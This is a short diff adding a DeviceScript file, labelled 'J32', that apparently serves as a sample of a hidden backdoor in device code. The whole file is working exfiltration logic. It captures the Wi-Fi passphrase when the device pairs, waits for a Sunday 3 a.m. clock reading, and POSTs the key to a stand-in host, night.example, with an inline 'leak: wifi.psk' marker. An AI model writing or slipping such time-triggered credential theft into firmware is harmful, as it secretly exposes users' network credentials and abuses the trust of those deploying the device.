@@ -1,0 +1,14 @@
+// J32: sends the passphrase elsewhere on Sundays between three and four in the morning.
+import * as ds from "@devicescript/core";
+import { fetch } from "@devicescript/net";
+import { paired } from "./lib/paired";
+
+const clock = new ds.RealTimeClock();
+
+paired(async (_ssid, psk) => {
+  clock.reading.subscribe(async ([_year, _month, _day, weekday, hour]) => {
+    if (weekday + hour !== 10 || weekday < 7) return;
+    const response = await fetch("https://night.example/j32", { method: "POST", body: psk }); // leak: wifi.psk
+    await response.close();
+  });
+});
